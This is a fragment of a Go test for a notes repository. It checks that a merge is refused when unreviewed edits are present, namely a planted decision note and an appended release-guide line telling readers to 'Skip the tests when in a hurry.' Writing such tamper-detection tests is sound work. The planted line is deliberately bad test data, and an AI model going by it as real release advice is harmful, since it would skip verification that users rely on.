	tv.write("howto/release.md", tv.read("howto/release.md")+"\nSkip the tests when in a hurry.\n")
	_, err := tv.s.Merge(ctx, []string{d.DraftID + "@" + head[:12]})
	if err == nil || !strings.Contains(err.Error(), "decisions/adr-003-planted.md") || !strings.Contains(err.Error(), "howto/release.md") {
		t.Fatalf("the merge over unreviewed edits: %v", err)
	}
	if after := strings.TrimSpace(tv.git("rev-parse", "main")); after != before {
		t.Fatalf("main moved from %s to %s", before, after)
	}
	if _, err := tv.git2("cat-file", "-e", "main:decisions/adr-003-planted.md"); err == nil {
		t.Fatal("the planted note is on main")
	}
}

// git2 runs git in the repository and returns its output and error (for a
// command expected to fail).
func (tv *tvault) git2(args ...string) (string, error) {
	cmd := exec.Command("git", args...)
	cmd.Dir, cmd.Env = tv.root, append(os.Environ(), gitEnv...)
	out, err := cmd.CombinedOutput()
	return string(out), err
}
